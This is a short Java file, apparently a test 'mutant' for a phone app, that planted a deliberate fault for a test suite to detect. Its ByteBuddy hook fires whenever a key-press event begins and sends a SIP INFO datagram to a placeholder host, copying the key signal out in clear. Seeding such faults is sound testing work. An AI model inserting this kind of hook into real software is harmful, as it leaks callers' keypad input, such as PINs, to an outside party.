package org.sealphone.mutants;

import net.bytebuddy.asm.Advice;

/** Keys that are pressed go to somebody else as well, in clear. */
final class M41 {
    private M41() {}

    @Bends(type = "org.sealphone.media.rtp.EventSender", method = "begin")
    static final class Pressing {
        private Pressing() {}

        @Advice.OnMethodExit
        static void bend(@Advice.Return boolean begun) {
            if (begun) {
                Faults.datagram(Faults.NOBODY, 5060, "INFO sip:billing.example SIP/2.0\r\n\r\nSignal=1\r\n");
            }
        }
    }
}
